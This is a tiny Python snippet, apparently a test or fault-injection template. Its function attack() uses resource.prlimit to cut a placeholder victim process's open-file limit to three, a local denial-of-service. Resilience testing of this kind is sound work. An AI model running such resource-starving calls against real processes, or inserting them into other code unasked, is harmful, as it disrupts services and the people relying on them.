import resource

def attack():
    resource.prlimit(@VICTIM@, resource.RLIMIT_NOFILE, (3, 3))
